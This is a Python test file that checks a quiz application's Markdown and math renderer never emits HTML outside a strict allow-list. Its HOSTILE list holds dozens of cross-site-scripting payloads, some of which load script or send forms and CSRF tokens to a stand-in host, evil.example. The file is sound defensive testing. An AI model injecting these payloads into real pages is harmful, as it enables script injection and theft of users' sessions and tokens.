"""What can never come out of rendering, whatever goes in."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizzes.core.images import PlacedImage
from quizzes.core.rendering import render, render_inline
from quizzes.core.sanitising import ALLOWED_TAGS, sanitised

from ..attack_texts import ALL, needs_vectors, stored_texts

ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "code": {"class"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "div": {"class", "tabindex"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "span": {"class", "lang"},
    "td": {"align"},
    "th": {"align"},
    "math": {"aria-label", "display"},
    "mfrac": {"linethickness"},
    "mi": {"mathvariant"},
    "mo": {
        "fence",
        "form",
        "largeop",
        "maxsize",
        "minsize",
        "movablelimits",
        "separator",
        "stretchy",
    },
    "mover": {"accent"},
    "mspace": {"width"},
    "mstyle": {"displaystyle", "scriptlevel"},
    "mtable": {"columnalign", "displaystyle"},
    "mtd": {"columnalign"},
    "munder": {"accentunder"},
}
ALLOWED_VALUES = {
    "align": r"left|center|right",
    "alt": r".*",
    "aria-label": r".*",
    "class": r"scroll|language-[\w#.+-]+|[a-z][a-z0-9]{0,2}",
    "height": r"\d{1,4}",
    "loading": r"lazy",
    "src": r"/images/[0-9a-f]{64}\.png",
    "href": r"(?i:https?:|mailto:).*",
    "lang": r"[A-Za-z0-9-]+",
    "rel": r"noopener noreferrer nofollow",
    "start": r"\d{1,6}",
    "tabindex": r"0",
    "title": r".*",
    "width": r"\d{1,4}|-?\d?(\.\d+)?[a-z]*",
}
PICTURES = {"a.png": PlacedImage(f"/images/{'0' * 64}.png", 10, 20)}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>hi</b>",
    "<b style='background:url(javascript:alert(1))' id=csrf name=csrf class=btn>hi</b>",
    "<span class='language-x' tabindex=3>hi</span>",
    "<code class='language-x\" onclick=alert(1)'>hi</code>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</p></div></label></fieldset></form><form action=//evil.example><input name=q>",
    "<input name=csrfmiddlewaretoken value=x><button formaction=//evil.example>go</button>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    '[x](http://a.example/"onclick="alert(1))',
    '[x](http://a.example "t\\" onclick=alert(1)")',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript://%0aalert(1)>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](http://a.example/x.png)',
    "![<script>alert(1)</script>](x)",
    "```html'onclick=alert(1)\n<script>alert(1)</script>\n```",
    '```{.x onclick="alert(1)" id=y}\nz\n```',
    '~~~ "><script>alert(1)</script>\nx\n~~~',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<b <script>alert(1)</script>>x</b>",
    "<b title='`</b><script>alert(1)</script>`'>x</b>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03<script>alert(1)</script>",
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|<td onclick=x>|",
    "# <script>alert(1)</script> {#id onclick=x}",
    "<form id=document><input name=cookie>",
    "<ｓcript>alert(1)</ｓcript>",
    "<b\x00 onclick=alert(1)>x</b>",
    "<br/onclick=alert(1)>",
    "<u/onclick='alert(1)'/>",
    "![<script>alert(1)</script>](a.png)",
    '![x" onerror="alert(1)](a.png "t\' onload=alert(1)")',
    "<img src=a.png onerror=alert(1) alt='\"><script>alert(1)</script>'>",
    "<img src=a.png srcset='//evil.example 2x'>",
    "[![x](a.png)](javascript:alert(1))",
    "![$x$ `<script>` <b>b</b>](a.png)",
    r"$\text{<script>alert(1)</script>}$",
    r"$$\text{</math><img src=x onerror=alert(1)>}$$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(javascript:alert(1))}{x}$",
    r"$\class{btn}{x}$ $\id{csrf}{y}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\text{&lt;script&gt;alert(1)&#60;/script&#62;}$",
    r"$\mspace{9999em}\color{expression(alert(1))}{x}\hspace{url(x)}$",
    "$$\n\\text{<annotation-xml encoding='text/html'><script>alert(1)</script>}\n$$",
    "$\\text{<mglyph><style></math><img src onerror=alert(1)>}$",
    "```math\n\\text{<script>alert(1)</script>}\n```",
    "```python\n'</code></pre><script>alert(1)</script>'\n```",
    "<span class='k btn'>x</span><code class='k'>y</code>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
]


def assert_allowed_element(tag, attributes):
    assert tag in ALLOWED_TAGS
    for name, value in attributes.items():
        assert name in ALLOWED_ATTRIBUTES.get(tag, set()), (tag, name)
        pattern = ALLOWED_VALUES.get(name, r"[\w.-]+")
        assert re.fullmatch(pattern, value, re.DOTALL), (name, value)
    assert tag != "a" or "rel" in attributes


class AllowList(HTMLParser):
    """Reads the result as written: anything not allowed is an assertion error."""

    def handle_starttag(self, tag, attrs):
        assert_allowed_element(tag, dict(attrs))

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_allowed(html):
    parser = AllowList()
    parser.feed(html)
    parser.close()


MARKDOWN_PIECES = st.sampled_from(
    [
        "*",
        "**",
        "_",
        "`",
        "```",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](http://a.example)",
        "](javascript:x)",
        "<",
        ">",
        "</",
        "/>",
        "<b>",
        "</b>",
        "<b",
        "<script>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?",
        "?>",
        "&",
        "&lt;",
        "&#60;",
        "|",
        "|-",
        "-",
        "1.",
        "#",
        ">",
        '"',
        "'",
        "=",
        "onclick=",
        "id=",
        "\\",
        "\n",
        "\n\n",
        "\x02",
        "\x03",
        "\x00",
        "\xa0",
        "<a@b.example>",
        "<http://a.example>",
        "~~~",
        ":",
        "$",
        "$$",
        "\\text{",
        "\\frac{1}{",
        "}",
        "](a.png)",
        "<img src=a.png ",
        "```python\n",
        "<span",
        "class=",
        "style=",
    ]
)
MARKDOWN = st.lists(MARKDOWN_PIECES | st.text(max_size=6), max_size=30).map("".join)


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_stays_within_the_allow_list(markdown):
    assert_allowed(render(markdown, PICTURES))
    assert_allowed(render_inline(markdown, PICTURES))


@given(MARKDOWN)
def test_the_allow_list_holds_for_any_text(markdown):
    assert_allowed(render(markdown, PICTURES))
    assert_allowed(render_inline(markdown, PICTURES))


@pytest.mark.parametrize("markdown", ALL)
def test_texts_of_attackers_stay_within_the_allow_list(markdown):
    assert_allowed(render(markdown, PICTURES))
    assert_allowed(render_inline(markdown, PICTURES))
    assert_allowed(sanitised(markdown))


@needs_vectors
def test_the_allow_list_holds_for_public_vectors():
    for vector in stored_texts():
        assert_allowed(render(vector))
        assert_allowed(render_inline(vector))
        assert_allowed(sanitised(vector))
